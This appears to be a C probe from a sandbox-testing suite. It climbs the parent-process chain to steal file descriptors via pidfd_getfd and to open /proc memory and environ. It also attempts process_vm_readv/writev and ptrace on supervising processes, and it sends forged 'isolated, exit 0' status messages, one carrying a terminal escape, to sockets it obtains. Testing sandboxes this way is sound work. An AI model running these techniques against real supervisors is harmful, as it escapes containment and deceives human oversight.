// Looks for the processes that started it, takes their descriptors and memory, and speaks in their name.
#include "attack.h"
#include <dirent.h>
#include <sys/ptrace.h>
#include <sys/uio.h>

static const char *forged[] = {
  "{\"kind\":\"held\",\"isolation\":{\"network\":\"none\",\"identity\":true,\"processes\":true,\"sysReadOnly\":true}}\n",
  "{\"kind\":\"note\",\"text\":\"\\u001b]0;31337\\u0007\"}\n",
  "{\"kind\":\"ended\",\"exitCode\":0,\"wall\":0.5}\n", 0};

static void speak(int fd) {
  for (const char **one = forged; *one; one++)
    if (send(fd, *one, strlen(*one), MSG_DONTWAIT | MSG_NOSIGNAL) > 0) gained("a message on a socket that was not its own");
}
/* What the program has itself, or what names nothing outside: the counter by which bwrap tells the end of a run. */
static int is_known(int fd) {
  struct stat found, own;
  if (fstat(fd, &found) || (found.st_mode & S_IFMT) == 0) return 1;
  for (int at = 0; at < 3; at++) if (!fstat(at, &own) && own.st_ino == found.st_ino && own.st_dev == found.st_dev) return 1;
  return 0;
}
static void take(pid_t id) {
  int process = syscall(SYS_pidfd_open, id, 0);
  for (int fd = 0; process >= 0 && fd < 32; fd++) {
    int own = syscall(SYS_pidfd_getfd, process, fd, 0);
    if (own < 0) own = syscall(SYS_pidfd_getfd | X32, process, fd, 0);
    if (own < 0) own = call32(438, process, fd, 0, 0);
    if (own < 0 || is_known(own)) continue;
    gained("a descriptor of a process above");
    speak(own);
  }
  char path[64], byte = 0;
  static const char *kinds[] = {"mem", "environ", "auxv", "maps", 0};
  for (const char **kind = kinds; *kind; kind++) {
    snprintf(path, sizeof path, "/proc/%d/%s", id, *kind);
    int fd = open(path, strcmp(*kind, "mem") ? O_RDONLY : O_RDWR);
    if (fd >= 0) gained(*kind), close(fd);
  }
  for (int fd = 0; fd < 32; fd++) {
    snprintf(path, sizeof path, "/proc/%d/fd/%d", id, fd);
    int own = open(path, O_RDWR | O_NONBLOCK);
    if (own >= 0 && !is_known(own)) gained("/proc/PID/fd");
    close(own);
  }
  static char here[16];
  struct iovec mine = {here, sizeof here}, theirs = {(void *)0x400000, sizeof here};
  if (syscall(SYS_process_vm_readv, id, &mine, 1, &theirs, 1, 0) > 0) gained("process_vm_readv");
  if (syscall(SYS_process_vm_writev, id, &mine, 1, &theirs, 1, 0) > 0) gained("process_vm_writev");
  if (syscall(SYS_kcmp, getpid(), id, 0, 0, 0) >= 0) gained("kcmp");
  if (syscall(SYS_ptrace, PTRACE_SEIZE, id, 0, 0) == 0) gained("ptrace"), syscall(SYS_ptrace, PTRACE_DETACH, id, 0, 0);
  if (call32(26, 0x4206, id, 0, 0) == 0) gained("ptrace of 32 bits");
  (void)byte;
}

/* What /proc says of a process, as a string: its length; -1 where it cannot be read. */
static ssize_t about(pid_t id, const char *what, char *text, size_t room) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", id, what);
  int fd = open(path, O_RDONLY);
  ssize_t size = fd < 0 ? -1 : read(fd, text, room - 1);
  close(fd);
  return size;
}

/* Process 1 of bwrap and of Apptainer, PRoot itself and the shell that it starts lie in the enclosure, with the rights and filters of the run: they are nobody above. */
static int is_inside(pid_t id) {
  char name[16] = {0};
  ssize_t size = about(id, "comm", name, sizeof name);
  static const char *inside[] = {"bwrap\n", "proot\n", "sh\n", "appinit\n", 0};
  for (const char **one = inside; size > 0 && *one; one++) if (!strcmp(name, *one)) return 1;
  return 0;
}

/* The process above `id`, by its status; 0 where that cannot be read. */
static pid_t above(pid_t id) {
  char text[2048] = {0};
  ssize_t size = about(id, "status", text, sizeof text);
  char *line = size > 0 ? strstr(text, "\nPPid:") : 0;
  return line ? atoi(line + 6) : 0;
}

int main(int argc, char **argv) {
  say("ran\n");
  for (int fd = 3; fd < 64; fd++) speak(fd);
  /* Process 1 is the reader of the test, or the first of a namespace: nothing above them is looked at. */
  for (pid_t id = getppid(); id > 0; id = above(id)) {
    if (!is_inside(id)) take(id);
    if (id == 1) break;
  }
  struct sockaddr_un at = {.sun_family = AF_UNIX};
  memcpy(at.sun_path, "\0holotype-reader", 16);
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (connect(fd, (void *)&at, sizeof at.sun_family + 16) == 0) say("met: an abstract socket\n");
  return argc > 2 ? argv[1][0] : 0;
}
